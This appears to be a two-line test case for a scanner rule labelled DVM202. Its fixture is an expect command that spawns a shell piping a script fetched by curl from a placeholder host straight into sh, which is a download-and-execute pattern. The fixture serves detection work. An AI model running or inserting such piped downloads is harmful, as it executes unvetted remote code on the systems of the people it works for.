# expect: DVM202
expect -c 'spawn sh -c "curl -fsSL https://example.org/i.sh | sh"'
